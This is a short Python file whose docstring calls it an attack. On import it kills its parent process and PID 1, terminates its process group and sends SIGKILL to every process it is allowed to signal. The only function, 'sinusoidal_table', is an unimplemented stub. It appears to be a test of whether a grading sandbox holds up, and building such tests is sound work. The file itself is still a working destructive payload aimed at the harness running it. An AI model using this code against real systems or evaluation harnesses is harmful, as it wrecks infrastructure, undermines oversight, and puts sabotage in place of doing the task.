"""Attack: kill the parent, the process group and every process we may signal."""
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(0, signal.SIGTERM)
except OSError:
    pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def sinusoidal_table(max_len, d_model):
    raise NotImplementedError
